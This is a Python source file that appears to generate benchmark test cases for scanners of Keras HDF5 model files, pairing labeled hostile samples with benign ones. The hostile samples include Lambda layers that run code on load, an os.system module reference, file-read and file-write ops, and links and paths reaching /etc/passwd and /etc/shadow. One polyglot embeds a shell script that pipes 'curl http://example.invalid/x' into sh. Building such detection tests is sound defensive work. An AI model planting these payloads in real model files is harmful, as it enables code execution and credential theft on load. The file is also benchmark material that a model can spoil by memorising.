"""Keras models in HDF5: configuration attributes, and links out of the file."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from bench.corpus import keras_configs
from bench.corpus.families import keras
from bench.corpus.unit import Family, Unit
from bench.corpus.writers import binaries, hdf5, safetensors
from bench.corpus.writers.hdf5 import Dataset, ExternalLink, Group, SoftLink

H5 = Family("keras_h5", "tf.keras / keras load_model on .h5")
NAME = "model.h5"


def old_layer(kind: str, name: str, **config: object) -> dict[str, object]:
    return {
        "class_name": kind,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
    }


def old_model(*layers: dict[str, object]) -> dict[str, object]:
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "name": "input_1"},
    }
    return {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [first, *layers]},
    }


def h5(rng: random.Random, config: object, training: object = None, **extra: object) -> bytes:
    """A whole-model file; `extra` become more children of the weights group."""
    kernel = Dataset((4, 4), safetensors.floats(rng, 16))
    dense = Group(
        {"dense": Group({"kernel:0": kernel, "bias:0": Dataset((4,), bytes(16))})},
        {"weight_names": ["dense/kernel:0", "dense/bias:0"]},
    )
    attributes = {"layer_names": ["dense"], "backend": b"tensorflow", "keras_version": b"2.15.0"}
    top: dict[str, object] = {"keras_version": "2.15.0", "backend": "tensorflow"}
    if config is not None:
        top["model_config"] = config if isinstance(config, bytes | str) else json.dumps(config)
    if training is not None:
        top["training_config"] = json.dumps(training)
    group = Group({"dense": dense, **extra}, attributes)  # type: ignore[dict-item]
    return hdf5.encode(Group({"model_weights": group}, top))


DENSE = old_layer("Dense", "dense", units=4, activation="relu")


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _hostile(rng)
    yield from _links(rng)
    yield from _honest(rng)


def _hostile(rng: random.Random) -> Iterator[Unit]:
    code = [keras_configs.lambda_code(), None, None]
    lam = old_layer("Lambda", "lambda", function=code, function_type="lambda", arguments={})
    def_lam = old_layer(
        "Lambda", "lambda", function="system", function_type="function", module="os"
    )
    op_read = old_layer("TFOpLambda", "tf.io.read_file", function="io.read_file")
    op_write = old_layer("TFOpLambda", "tf.io.write_file", function="io.write_file")
    op_py = old_layer("TFOpLambda", "tf.py_function", function="py_function")
    op_raw = old_layer("TFOpLambda", "tf.raw_ops.WriteFile", function="raw_ops.WriteFile")
    wrapped = old_layer("TimeDistributed", "td", layer=lam)
    inner = {**old_model(lam), "name": "inner"}
    configs = {
        ("lambda", "plain"): old_model(DENSE, lam),
        ("lambda", "wrapped"): old_model(wrapped),
        ("lambda", "nested-model"): old_model(DENSE, inner),
        ("lambda", "output-shape"): old_model(
            old_layer(
                "Lambda",
                "l",
                function="relu",
                function_type="function",
                output_shape=code,
                output_shape_type="lambda",
            )
        ),
        ("lambda", "mask"): old_model(
            old_layer(
                "Lambda",
                "l",
                function="relu",
                function_type="function",
                mask=code,
                mask_type="lambda",
            )
        ),
        ("module-reference", "function-module"): old_model(def_lam),
        ("module-reference", "new-style"): keras_configs.hostile_configs()[
            "module-reference", "lambda-os-system"
        ],
        ("op-lambda", "read-file"): old_model(op_read),
        ("op-lambda", "write-file"): old_model(op_write),
        ("op-lambda", "py-function"): old_model(op_py),
        ("op-lambda", "raw-op"): old_model(op_raw),
        ("file-read", "string-lookup"): old_model(
            old_layer("StringLookup", "s", vocabulary="/etc/passwd")
        ),
        ("file-read", "text-vectorization"): old_model(
            old_layer("TextVectorization", "t", vocabulary="../../../etc/shadow")
        ),
        ("torch-module", "keras-layers"): keras_configs.hostile_configs()[
            "torch-module", "wrapper"
        ],
        ("torch-module", "wrapper"): keras_configs.hostile_configs()["torch-module", "old-path"],
    }
    for (technique, variant), config in configs.items():
        yield H5.bad(technique, variant, {NAME: h5(rng, config)}, payload="runs or reads on load")
    fixed = json.dumps(old_model(lam)).encode()
    yield H5.bad(
        "lambda", "fixed-length-attribute", {"weights.hdf5": h5(rng, fixed)}, payload="runs on load"
    )
    loss = {"loss": {"class_name": "__lambda__", "config": {"code": keras_configs.lambda_code()}}}
    body = h5(rng, old_model(DENSE), {**loss, "optimizer_config": {"class_name": "Adam"}})
    yield H5.bad("lambda", "training-config", {NAME: body}, payload="runs on load")
    yield H5.bad(
        "lambda", "no-extension", {"model": h5(rng, old_model(lam))}, payload="runs on load"
    )
    front = binaries.elf(b"x", shared=False).ljust(512, b"\0")
    body = hdf5.encode(Group({"w": Dataset((4,), bytes(16))}), front)
    yield H5.bad("polyglot", "user-block-elf", {NAME: body}, payload="an executable in front")
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\nexit 0\n".ljust(512, b"\n")
    body = hdf5.encode(Group({"w": Dataset((4,), bytes(16))}), script)
    yield H5.bad("polyglot", "user-block-script", {NAME: body}, payload="a script in front")


def _links(rng: random.Random) -> Iterator[Unit]:
    def bad(technique: str, variant: str, **children: object) -> Unit:
        body = h5(rng, old_model(DENSE), **children)
        return H5.bad(technique, variant, {NAME: body}, payload="reads another file")

    yield bad("external-link", "absolute", extra=ExternalLink("/etc/passwd", "/w"))
    yield bad("external-link", "parent", extra=ExternalLink("../../secret.h5", "/w"))
    yield bad(
        "external-link", "deep", extra=Group({"a": Group({"b": ExternalLink("/root/x.h5", "/w")})})
    )
    yield bad("external-link", "unc", extra=ExternalLink("\\\\example.invalid\\s\\x.h5", "/"))
    yield bad(
        "external-storage",
        "absolute",
        extra=Dataset((16,), b"", hdf5.UINT8, external=[("/etc/passwd", 0, 16)]),
    )
    parts = [("w.bin", 0, 8), ("../../../etc/shadow", 0, 8)]
    yield bad(
        "external-storage", "second-part", extra=Dataset((16,), b"", hdf5.UINT8, external=parts)
    )
    yield bad(
        "virtual-dataset", "absolute", extra=Dataset((4,), b"", sources=[("/root/other.h5", "/w")])
    )
    yield bad(
        "virtual-dataset",
        "second-source",
        extra=Dataset((4,), b"", sources=[(".", "/a"), ("../../x.h5", "/b")]),
    )
    body = hdf5.encode(Group({"layers": ExternalLink("/etc/passwd", "/")}, {}, links=True))
    yield H5.bad(
        "external-link", "weights-only", {"model.weights.h5": body}, payload="reads another file"
    )
    elf = binaries.elf(b"connect")
    yield bad("executable-dataset", "elf", extra=Dataset((len(elf),), elf, hdf5.UINT8))


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, body: bytes, name: str = NAME) -> Unit:
        return H5.good("model", variant, {name: body})

    yield good("dense", h5(rng, old_model(DENSE)))
    yield good(
        "trained",
        h5(
            rng,
            old_model(DENSE),
            {
                "loss": "mse",
                "metrics": ["mae"],
                "optimizer_config": {"class_name": "Adam", "config": {"lr": 0.001}},
            },
        ),
    )
    add = old_layer("TFOpLambda", "tf.__operators__.add", function="__operators__.add")
    mean = old_layer("TFOpLambda", "tf.math.reduce_mean", function="math.reduce_mean")
    cut = old_layer("SlicingOpLambda", "tf.__operators__.getitem", function="__operators__.getitem")
    yield good("op-lambdas", h5(rng, old_model(DENSE, add, mean, cut)))
    yield good(
        "recurrent",
        h5(
            rng,
            old_model(
                old_layer("Bidirectional", "b", layer=old_layer("LSTM", "l", units=4)), DENSE
            ),
        ),
    )
    yield good("new-style", h5(rng, keras_configs.honest_configs()["dense"]))
    yield good("fixed-length", h5(rng, json.dumps(old_model(DENSE)).encode()))
    yield good("weights-only", h5(rng, None), "weights.h5")
    yield good("saving-lib", keras.weights(rng), "model.weights.h5")
    yield good(
        "compact-links",
        hdf5.encode(Group({"a": Dataset((4,), bytes(16)), "b": Group()}, {}, links=True)),
    )
    yield good("soft-link", h5(rng, old_model(DENSE), alias=SoftLink("/model_weights/dense")))
    many = {f"layer_{i:02}": Group({"w": Dataset((2,), bytes(8))}) for i in range(60)}
    yield good("many-groups", hdf5.encode(Group(many, {"layer_names": sorted(many)})))
    table = Dataset((50, 8), safetensors.floats(rng, 400), attributes={"units": "m/s", "count": 50})
    yield good(
        "plain-data",
        hdf5.encode(
            Group({"train": Group({"x": table, "y": Dataset((50,), bytes(400), hdf5.INT64)})})
        ),
        "data.hdf5",
    )
    yield good("user-block", hdf5.encode(Group({"w": table}), bytes(512)))
    named = old_model(
        old_layer("Dense", "os.system", units=4), old_layer("Dense", "lambda", units=4)
    )
    yield good("odd-names", h5(rng, named))
    own = old_model(old_layer("CrossNetwork", "cross", units=4, module="recommenders"), DENSE)
    yield good("own-layer", h5(rng, own))
    yield good(
        "virtual-same-file",
        hdf5.encode(
            Group({"a": Dataset((4,), bytes(16)), "v": Dataset((4,), b"", sources=[(".", "/a")])})
        ),
    )
